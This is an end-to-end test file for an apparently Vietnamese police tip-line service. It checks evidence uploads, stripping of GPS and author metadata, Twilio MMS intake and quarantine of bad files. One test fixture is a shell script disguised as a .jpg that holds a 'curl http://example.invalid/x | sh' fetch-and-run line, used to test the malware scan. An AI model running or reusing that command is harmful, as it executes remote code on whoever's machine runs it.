/**
 * Evidence attachments end to end on the local stack: intake opens upload slots and presigns S3
 * POSTs, the files go straight to the bucket (fauxqs behind the local S3 gateway), the bucket's
 * notification reaches the scan through its queue, and officers see and open clean copies.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { GetObjectCommand } from '@aws-sdk/client-s3';
import { randomUUID } from 'node:crypto';
import twilioWebhooks from 'twilio/lib/webhooks/webhooks.js';
import { afterAll, beforeAll, describe, it } from 'vitest';
import { localSecrets, type LocalStack } from '../../infra/local/stack.ts';
import { evidenceKey } from '../../shared/attachments/attachment.ts';
import { gpsOf, hasImageMetadata, mp4WithLocation, pdfWithAuthor, photoWithGps, postUpload, type UploadTicketAnswer } from '../support/evidence-files.ts';
import { eventually, officerApi, postJson, waitLimitMs } from '../support/helpers.ts';
import { startTestStack } from '../support/stack.ts';

let stack: LocalStack;

beforeAll(async () => {
  stack = await startTestStack({ logLevel: 'WARN' });
});

afterAll(async () => {
  await stack?.stop();
});

const call = officerApi(() => stack);

/** Phường Bến Thành, and a point well inside it (its label point). */
const benThanh = { unit: '26743', officer: 'officer-26743', lat: 10.77277, lon: 106.69516 };
/** An officer of another ward (Phường Bàn Cờ). */
const otherUnitOfficer = 'officer-27154';

interface AttachmentAnswer {
  id: string;
  fileName: string;
  type: string;
  size: number;
  status: string;
  quarantineReason: string | null;
  refusedUploads: number;
  viewable: boolean;
}

interface Declared {
  readonly fileName: string;
  readonly contentType: string;
  readonly size: number;
}

/** Sends a tip that declares files; returns its code and one upload ticket per file. */
async function tipWithFiles(files: readonly Declared[], extra: Record<string, unknown> = { unit: benThanh.unit }) {
  const answer = await postJson(`${stack.apiUrl}/tips`, { text: 'Có người bán ma túy trong hẻm, tôi có chụp ảnh gửi kèm', ...extra, attachments: files });
  assert.equal(answer.status, 202, JSON.stringify(answer.json));
  const uploads = answer.json.uploads as UploadTicketAnswer[];
  assert.equal(uploads.length, files.length);
  return { trackingCode: String(answer.json.trackingCode), uploads };
}

/** The tip's id once an officer who may see it finds it by its tracking code. */
async function tipIdOf(viewer: string, queue: string, trackingCode: string): Promise<string> {
  return eventually(
    async () => {
      const page = await call(viewer, 'GET', `/queue?queue=${queue}&status=NEW&limit=100`);
      return (page.json.items as Array<{ id: string; trackingCode: string }> | undefined)?.find((item) => item.trackingCode === trackingCode)?.id;
    },
    waitLimitMs,
    'the tip in its queue',
  );
}

/** The tip's detail as an officer sees it. */
async function detail(viewer: string, tipId: string) {
  const answer = await call(viewer, 'GET', `/tips/${tipId}`);
  assert.equal(answer.status, 200);
  return answer.json as { tip: Record<string, unknown>; events: Array<Record<string, unknown>>; attachments: AttachmentAnswer[] };
}

/** Waits until every attachment of the tip has left `pending`. */
async function scanned(viewer: string, tipId: string): Promise<AttachmentAnswer[]> {
  return eventually(
    async () => {
      const { attachments } = await detail(viewer, tipId);
      return attachments.every((attachment) => attachment.status !== 'pending') ? attachments : undefined;
    },
    waitLimitMs * 2,
    'the scan of every attachment',
  );
}

async function objectBytes(key: string): Promise<Uint8Array | undefined> {
  try {
    const answer = await stack.s3.send(new GetObjectCommand({ Bucket: stack.evidenceBucketName, Key: key }));
    return answer.Body ? await answer.Body.transformToByteArray() : undefined;
  } catch {
    return undefined;
  }
}

const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');

describe('photos with a tip', () => {
  it('keeps two photos: the clean copies carry no EXIF GPS, the originals still do, and officers open the clean copy', async () => {
    const first = await photoWithGps(benThanh.lat, benThanh.lon, { colour: '#a33' });
    const second = await photoWithGps(benThanh.lat + 0.0004, benThanh.lon, { format: 'png', colour: '#33a' });
    assert.ok(await gpsOf(first), 'the test photo carries GPS');
    const { trackingCode, uploads } = await tipWithFiles([
      { fileName: 'cảnh giao hàng.jpg', contentType: 'image/jpeg', size: first.byteLength },
      { fileName: 'biển số xe.png', contentType: 'image/png', size: second.byteLength },
    ]);
    const [firstTicket, secondTicket] = uploads as [UploadTicketAnswer, UploadTicketAnswer];
    assert.equal((await postUpload(firstTicket, first, 'cảnh giao hàng.jpg', 'image/jpeg')).status, 201);
    assert.equal((await postUpload(secondTicket, second, 'biển số xe.png', 'image/png')).status, 201);

    const tipId = await tipIdOf(benThanh.officer, benThanh.unit, trackingCode);
    const attachments = await scanned(benThanh.officer, tipId);
    assert.deepEqual(
      attachments.map(({ fileName, type, status }) => ({ fileName, type, status })),
      [
        { fileName: 'cảnh giao hàng.jpg', type: 'image/jpeg', status: 'clean' },
        { fileName: 'biển số xe.png', type: 'image/png', status: 'clean' },
      ],
    );

    for (const [index, attachment] of attachments.entries()) {
      const clean = await objectBytes(evidenceKey('clean', tipId, attachment.id));
      const original = await objectBytes(evidenceKey('original', tipId, attachment.id));
      assert.ok(clean && original, 'both copies are stored');
      assert.equal(await gpsOf(clean), undefined, 'the clean copy has no GPS');
      assert.equal(await hasImageMetadata(clean), false, 'the clean copy has no EXIF, XMP or IPTC at all');
      assert.ok(await gpsOf(original), 'the original keeps its GPS for evidence handling');
      assert.equal(sha256(original), sha256(index === 0 ? first : second), 'the original is the file as sent');
      assert.equal(await objectBytes(evidenceKey('incoming', tipId, attachment.id)), undefined, 'nothing is left in incoming/');
    }

    // The officer's link opens the clean copy, and the view is in the audit trail.
    const [photo] = attachments as [AttachmentAnswer];
    const link = await call(benThanh.officer, 'GET', `/tips/${tipId}/attachments/${photo.id}`);
    assert.equal(link.status, 200);
    const opened = await fetch(String(link.json.url));
    assert.equal(opened.status, 200);
    const served = new Uint8Array(await opened.arrayBuffer());
    assert.equal(await gpsOf(served), undefined);
    assert.equal(sha256(served), sha256((await objectBytes(evidenceKey('clean', tipId, photo.id))) as Uint8Array));
    const { events } = await detail(benThanh.officer, tipId);
    const views = events.filter((event) => event.type === 'ATTACHMENT_VIEWED');
    assert.equal(views.length, 1);
    assert.equal(views[0]?.actor, benThanh.officer);
  });

  it('routes a tip that names no place by its photo’s GPS, and leaves it at the desk when the photo was taken outside the city', async () => {
    const inCity = await photoWithGps(benThanh.lat, benThanh.lon);
    const text = 'Có nhóm thanh niên tụ tập hút chích, tôi chụp được ảnh';
    const { trackingCode, uploads } = await tipWithFiles([{ fileName: 'anh.jpg', contentType: 'image/jpeg', size: inCity.byteLength }], { text });
    assert.equal((await postUpload(uploads[0] as UploadTicketAnswer, inCity, 'anh.jpg', 'image/jpeg')).status, 201);
    const moved = await tipIdOf(benThanh.officer, benThanh.unit, trackingCode);
    const { tip, events } = await detail(benThanh.officer, moved);
    assert.equal(tip.unit, benThanh.unit);
    // Moved after the scan, or routed by the photo from the start when the scan came first.
    const routing = tip.routing as { method: string; evidence: { source?: string } | null };
    assert.ok(events.some((event) => event.type === 'ROUTED_BY_PHOTO') || (routing.method === 'gps' && routing.evidence?.source === 'photo'));

    const hanoi = await photoWithGps(21.0285, 105.8542);
    const elsewhere = await tipWithFiles([{ fileName: 'anh.jpg', contentType: 'image/jpeg', size: hanoi.byteLength }], { text });
    assert.equal((await postUpload(elsewhere.uploads[0] as UploadTicketAnswer, hanoi, 'anh.jpg', 'image/jpeg')).status, 201);
    const atDesk = await tipIdOf('desk', 'CITY', elsewhere.trackingCode);
    const attachments = await scanned('desk', atDesk);
    assert.equal(attachments[0]?.status, 'clean');
    const afterScan = await detail('desk', atDesk);
    assert.equal(afterScan.tip.unit, null, 'a point outside the city moves nothing');
    assert.ok(!afterScan.events.some((event) => event.type === 'ROUTED_BY_PHOTO'));
  });
});

describe('MMS media (Twilio)', () => {
  const webhook = () => `${stack.apiUrl}/sms/twilio`;
  async function postTwilio(fields: Record<string, string>) {
    const response = await fetch(webhook(), {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-twilio-signature': twilioWebhooks.getExpectedTwilioSignature(localSecrets.twilioAuthToken, webhook(), fields) },
      body: new URLSearchParams(fields).toString(),
    });
    return { status: response.status, text: await response.text() };
  }
  const phone = () => `+8490${String(Math.floor(Math.random() * 1e7)).padStart(7, '0')}`;

  it('attaches an MMS photo to the tip it opens, and a photo sent alone after it to the same tip; a vCard stays with the provider', async () => {
    const from = phone();
    const photo = await photoWithGps(benThanh.lat, benThanh.lon, { colour: '#a0a' });
    const first = await postTwilio({
      MessageSid: `MM${randomUUID().replaceAll('-', '')}`,
      From: from,
      To: '+15005550006',
      Body: 'Co nguoi ban ma tuy o hem 45 cho Ben Thanh, anh dinh kem',
      NumMedia: '2',
      MediaUrl0: `${stack.localUrl}${stack.smsProvider.holdMedia(photo, 'image/jpeg')}`,
      MediaContentType0: 'image/jpeg',
      MediaUrl1: `${stack.localUrl}${stack.smsProvider.holdMedia(new TextEncoder().encode('BEGIN:VCARD\nEND:VCARD\n'), 'text/vcard')}`,
      MediaContentType1: 'text/vcard',
    });
    assert.equal(first.status, 200);
    const code = /(TB-[0-9A-Z]{4}-[0-9A-Z]{4})/.exec(first.text)?.[1];
    assert.ok(code, first.text);
    const tipId = await tipIdOf(benThanh.officer, benThanh.unit, code);
    const [attachment] = (await scanned(benThanh.officer, tipId)) as [AttachmentAnswer];
    assert.equal((await detail(benThanh.officer, tipId)).attachments.length, 1, 'only the photo became an attachment');
    assert.equal(attachment.status, 'clean');
    assert.equal(attachment.type, 'image/jpeg');
    const clean = (await objectBytes(evidenceKey('clean', tipId, attachment.id))) as Uint8Array;
    assert.equal(await gpsOf(clean), undefined);
    assert.equal(sha256((await objectBytes(evidenceKey('original', tipId, attachment.id))) as Uint8Array), sha256(photo));

    const second = await photoWithGps(benThanh.lat, benThanh.lon, { format: 'png' });
    const alone = await postTwilio({
      MessageSid: `MM${randomUUID().replaceAll('-', '')}`,
      From: from,
      To: '+15005550006',
      Body: '',
      NumMedia: '1',
      MediaUrl0: `${stack.localUrl}${stack.smsProvider.holdMedia(second, 'image/png')}`,
      MediaContentType0: 'image/png',
    });
    assert.equal(alone.status, 200);
    assert.ok(alone.text.includes(code), 'the answer names the tip it joined');
    const both = await eventually(
      async () => {
        const { attachments } = await detail(benThanh.officer, tipId);
        return attachments.length === 2 && attachments.every((item) => item.status === 'clean') ? attachments : undefined;
      },
      waitLimitMs * 2,
      'the second photo on the same tip',
    );
    assert.deepEqual(both.map((item) => item.type), ['image/jpeg', 'image/png']);
  });
});

describe('the form’s script', () => {
  it('posts the form’s own fields with its files declared, and gets JSON back instead of the receipt page', async () => {
    const photo = await photoWithGps(benThanh.lat, benThanh.lon);
    const fields = new URLSearchParams({
      text: 'Có người bán ma túy trong hẻm, tôi có chụp ảnh gửi kèm',
      unit: benThanh.unit,
      language: 'vi',
      attachments: JSON.stringify([{ fileName: 'ảnh hẻm.jpg', contentType: 'image/jpeg', size: photo.byteLength }]),
    });
    const accepted = await fetch(`${stack.apiUrl}/tips`, { method: 'POST', body: fields, headers: { accept: 'application/json' }, redirect: 'manual' });
    assert.equal(accepted.status, 202);
    const answer = (await accepted.json()) as { trackingCode: string; uploads: UploadTicketAnswer[] };
    assert.equal((await postUpload(answer.uploads[0] as UploadTicketAnswer, photo, 'ảnh hẻm.jpg', 'image/jpeg')).status, 201);
    const tipId = await tipIdOf(benThanh.officer, benThanh.unit, answer.trackingCode);
    assert.equal((await scanned(benThanh.officer, tipId))[0]?.status, 'clean');

    // The same fields from a form without script: the receipt page, as before.
    const plain = await fetch(`${stack.apiUrl}/tips`, { method: 'POST', body: new URLSearchParams({ text: 'Có người bán ma túy trong hẻm sau chợ', unit: benThanh.unit }), redirect: 'manual' });
    assert.equal(plain.status, 303);
    // A refusal asked for as JSON is JSON, naming the file.
    fields.set('attachments', JSON.stringify([{ fileName: 'phim.mov', contentType: 'video/quicktime', size: 90_000_000 }]));
    const refused = await fetch(`${stack.apiUrl}/tips`, { method: 'POST', body: fields, headers: { accept: 'application/json' } });
    assert.equal(refused.status, 400);
    const issues = ((await refused.json()) as { issues: Array<{ field: string; file?: string }> }).issues;
    assert.deepEqual(issues.map((issue) => [issue.field, issue.file]), [['attachments.0.size', 'phim.mov']]);
  });
});

describe('videos and documents', () => {
  it('cleans a PDF of its author and an MP4 of its location, and keeps both originals as sent', async () => {
    const latin1 = (bytes: Uint8Array) => Buffer.from(bytes).toString('latin1');
    const pdf = await pdfWithAuthor('Nguyen Van Tipster');
    const video = mp4WithLocation('+10.7727+106.6951/');
    const { trackingCode, uploads } = await tipWithFiles([
      { fileName: 'bien-ban.pdf', contentType: 'application/pdf', size: pdf.byteLength },
      { fileName: 'clip.mp4', contentType: 'video/mp4', size: video.byteLength },
    ]);
    await postUpload(uploads[0] as UploadTicketAnswer, pdf, 'bien-ban.pdf', 'application/pdf');
    await postUpload(uploads[1] as UploadTicketAnswer, video, 'clip.mp4', 'video/mp4');
    const tipId = await tipIdOf(benThanh.officer, benThanh.unit, trackingCode);
    const [document, clip] = (await scanned(benThanh.officer, tipId)) as [AttachmentAnswer, AttachmentAnswer];
    assert.deepEqual([document.status, clip.status], ['clean', 'clean']);

    const cleanPdf = latin1((await objectBytes(evidenceKey('clean', tipId, document.id))) as Uint8Array);
    assert.ok(cleanPdf.startsWith('%PDF-'));
    const { PDFDocument } = await import('pdf-lib');
    const original = (await objectBytes(evidenceKey('original', tipId, document.id))) as Uint8Array;
    assert.equal(sha256(original), sha256(pdf), 'the original is the file as sent');
    assert.equal((await PDFDocument.load(original, { updateMetadata: false })).getAuthor(), 'Nguyen Van Tipster');
    const cleaned = await PDFDocument.load(Buffer.from(cleanPdf, 'latin1'), { updateMetadata: false });
    assert.equal(cleaned.getAuthor(), undefined, 'no author left in the clean copy');
    assert.equal(cleaned.getCreator(), undefined, 'no creator either');
    assert.equal(cleaned.getPageCount(), 1);

    const cleanClip = (await objectBytes(evidenceKey('clean', tipId, clip.id))) as Uint8Array;
    assert.equal(cleanClip.byteLength, video.byteLength, 'no box moved');
    assert.ok(!latin1(cleanClip).includes('+106.6951'), 'the location is gone');
    assert.ok(latin1(cleanClip).includes('free'));
    assert.equal(sha256((await objectBytes(evidenceKey('original', tipId, clip.id))) as Uint8Array), sha256(video));
  });
});

describe('what the scan refuses', () => {
  it('quarantines a script renamed .jpg and flags the tip', async () => {
    const script = new TextEncoder().encode('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
    const { trackingCode, uploads } = await tipWithFiles([{ fileName: 'anh-hien-truong.jpg', contentType: 'image/jpeg', size: script.byteLength }]);
    assert.equal((await postUpload(uploads[0] as UploadTicketAnswer, script, 'anh-hien-truong.jpg', 'image/jpeg')).status, 201);
    const tipId = await tipIdOf(benThanh.officer, benThanh.unit, trackingCode);
    const [attachment] = (await scanned(benThanh.officer, tipId)) as [AttachmentAnswer];
    assert.equal(attachment.status, 'quarantined');
    assert.ok(['notAllowed', 'typeMismatch'].includes(String(attachment.quarantineReason)));
    assert.equal(attachment.viewable, false);
    // The file's record is written first, then its tip is flagged (a retry of the scan goes straight to the tip).
    const { events } = await eventually(
      async () => {
        const current = await detail(benThanh.officer, tipId);
        return (current.tip.flags as string[] | undefined)?.includes('attachment_quarantined') ? current : undefined;
      },
      waitLimitMs,
      'the tip flagged',
    );
    assert.equal(events.filter((event) => event.type === 'ATTACHMENT_QUARANTINED').length, 1);
    // Kept for evidence handlers, never as a clean copy.
    assert.ok(await objectBytes(evidenceKey('quarantine', tipId, attachment.id)));
    assert.equal(await objectBytes(evidenceKey('clean', tipId, attachment.id)), undefined);
    const link = await call(benThanh.officer, 'GET', `/tips/${tipId}/attachments/${attachment.id}`);
    assert.equal(link.status, 409);
    assert.equal(link.json.url, undefined);
  });

  it('gives an officer of another unit no link, only the answer a missing tip gets', async () => {
    const photo = await photoWithGps(benThanh.lat, benThanh.lon);
    const { trackingCode, uploads } = await tipWithFiles([{ fileName: 'anh.jpg', contentType: 'image/jpeg', size: photo.byteLength }]);
    await postUpload(uploads[0] as UploadTicketAnswer, photo, 'anh.jpg', 'image/jpeg');
    const tipId = await tipIdOf(benThanh.officer, benThanh.unit, trackingCode);
    const [attachment] = (await scanned(benThanh.officer, tipId)) as [AttachmentAnswer];
    assert.equal(attachment.status, 'clean');
    const refused = await call(otherUnitOfficer, 'GET', `/tips/${tipId}/attachments/${attachment.id}`);
    const missing = await call(otherUnitOfficer, 'GET', `/tips/01ARZ3NDEKTSV4RRFFQ69G5FAV/attachments/${attachment.id}`);
    assert.equal(refused.status, 404);
    assert.equal(refused.json.url, undefined);
    assert.deepEqual(refused.json, missing.json);
    assert.ok(!(await detail(benThanh.officer, tipId)).events.some((event) => event.type === 'ATTACHMENT_VIEWED'));
  });

  it('refuses an oversized or disallowed file at the door, naming the file and the reason in the request’s language', async () => {
    const english = await postJson(
      `${stack.apiUrl}/tips`,
      {
        text: 'Someone is selling drugs in the alley behind the market',
        unit: benThanh.unit,
        language: 'en',
        attachments: [
          { fileName: 'phone-video.mp4', contentType: 'video/mp4', size: 40_000_000 },
          { fileName: 'run-me.sh', contentType: 'application/x-sh', size: 200 },
        ],
      },
      { 'accept-language': 'en' },
    );
    assert.equal(english.status, 400);
    const issues = english.json.issues as Array<{ field: string; message: string; file?: string }>;
    const size = issues.find((issue) => issue.field === 'attachments.0.size');
    const type = issues.find((issue) => issue.field === 'attachments.1.contentType');
    assert.ok(size?.message.includes('phone-video.mp4') && /25 MB/.test(size.message), JSON.stringify(issues));
    assert.ok(type?.message.includes('run-me.sh'), JSON.stringify(issues));

    const vietnamese = await postJson(`${stack.apiUrl}/tips`, {
      text: 'Có người bán ma túy trong hẻm sau chợ',
      unit: benThanh.unit,
      attachments: [{ fileName: 'video dài.mov', contentType: 'video/quicktime', size: 26_000_000 }],
    });
    assert.equal(vietnamese.status, 400);
    const [issue] = vietnamese.json.issues as Array<{ field: string; message: string; file?: string }>;
    assert.equal(issue?.field, 'attachments.0.size');
    assert.ok(issue?.message.includes('video dài.mov'));
    assert.notEqual(issue?.message, size?.message);
  });

  it('quarantines a file larger than declared, which an emulator that skips the POST policy let through', async () => {
    const photo = await photoWithGps(benThanh.lat, benThanh.lon, { width: 400 });
    const { trackingCode, uploads } = await tipWithFiles([{ fileName: 'anh.jpg', contentType: 'image/jpeg', size: 100 }]);
    assert.ok(photo.byteLength > 100);
    await postUpload(uploads[0] as UploadTicketAnswer, photo, 'anh.jpg', 'image/jpeg');
    const tipId = await tipIdOf(benThanh.officer, benThanh.unit, trackingCode);
    const [attachment] = (await scanned(benThanh.officer, tipId)) as [AttachmentAnswer];
    assert.equal(attachment.status, 'quarantined');
    assert.equal(attachment.quarantineReason, 'tooLarge');
  });

  it('refuses a slot used a second time and keeps the first file', async () => {
    const first = await photoWithGps(benThanh.lat, benThanh.lon, { colour: '#111' });
    const { trackingCode, uploads } = await tipWithFiles([{ fileName: 'anh.jpg', contentType: 'image/jpeg', size: first.byteLength }]);
    const ticket = uploads[0] as UploadTicketAnswer;
    await postUpload(ticket, first, 'anh.jpg', 'image/jpeg');
    const tipId = await tipIdOf(benThanh.officer, benThanh.unit, trackingCode);
    const [attachment] = (await scanned(benThanh.officer, tipId)) as [AttachmentAnswer];
    assert.equal(attachment.status, 'clean');
    const cleanBefore = sha256((await objectBytes(evidenceKey('clean', tipId, attachment.id))) as Uint8Array);

    const second = await photoWithGps(benThanh.lat, benThanh.lon, { colour: '#eee' });
    await postUpload(ticket, second.subarray(0, first.byteLength), 'anh.jpg', 'image/jpeg');
    const refused = await eventually(
      async () => {
        const current = (await detail(benThanh.officer, tipId)).attachments[0];
        return current && current.refusedUploads === 1 ? current : undefined;
      },
      waitLimitMs * 2,
      'the second upload refused',
    );
    assert.equal(refused.status, 'clean');
    assert.equal(sha256((await objectBytes(evidenceKey('clean', tipId, attachment.id))) as Uint8Array), cleanBefore, 'the clean copy is still the first file');
    assert.equal(sha256((await objectBytes(evidenceKey('original', tipId, attachment.id))) as Uint8Array), sha256(first));
    assert.equal(await objectBytes(evidenceKey('incoming', tipId, attachment.id)), undefined, 'the refused upload is not kept');
  });
});
